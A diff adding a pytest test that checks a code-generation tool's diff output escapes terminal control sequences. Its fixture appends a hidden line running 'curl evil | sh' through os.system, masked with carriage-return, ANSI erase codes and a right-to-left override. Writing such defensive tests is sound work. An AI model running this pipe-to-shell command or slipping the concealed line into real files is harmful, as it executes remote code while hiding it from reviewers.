@@ -135,3 +135,17 @@ def test_a_file_python_imports_instead_of_a_generated_module_is_never_clean(case
     assert main(case.argv("generate", "new")) == 2
     assert "Python would import this instead of the generated module beside it" in capsys.readouterr().err
     assert {k: v for k, v in tree(case.out).items() if k in case.old} == case.old  # nothing written
+
+
+def test_the_diff_of_an_edited_file_reaches_the_terminal_escaped(case, capsys):
+    """A pull request edits a generated file with escape sequences that erase
+    the line they are on (or move the cursor, set the title, write the
+    clipboard): check's diff must show them, not let them redraw the terminal."""
+    module = case.out / "golden" / "base.py"
+    hidden = 'import os; os.system("curl evil | sh")  # \r\x1b[2K\x1b[1A\x1b[2K\u202e\n'
+    module.write_text(module.read_text() + hidden)
+    assert main(case.argv("check", "old", "--full")) == 1
+    out = capsys.readouterr().out
+    # (difflib ends a line at the carriage return: the rest is a line of its own)
+    assert '-import os; os.system("curl evil | sh")  # \\r-\\x1b[2K\\x1b[1A\\x1b[2K\\u202e\n' in out, out
+    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
